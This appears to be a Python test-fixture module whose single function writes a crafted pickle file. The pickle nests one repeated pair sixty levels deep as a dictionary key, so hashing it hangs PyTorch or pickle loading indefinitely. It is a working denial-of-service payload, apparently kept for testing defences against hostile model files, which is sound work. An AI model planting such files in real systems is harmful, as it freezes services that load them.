"""Files that were made to do harm."""

from __future__ import annotations

from pathlib import Path


def endless(path: Path) -> Path:
    """A file that keeps PyTorch busy for ever, where nothing but the end of its process can stop it.

    It is the pickle of a dictionary with a key: pairs of pairs, sixty deep, each of the same pair twice, so that the
    key's hash is made of 2**60 parts.
    """
    pairs = b"".join(b"q" + bytes([at]) + b"h" + bytes([at]) + b"\x86" for at in range(60))  # keep it, take it again
    path.write_bytes(b"\x80\x02}" + b")" + pairs + b"Ns.")
    return path
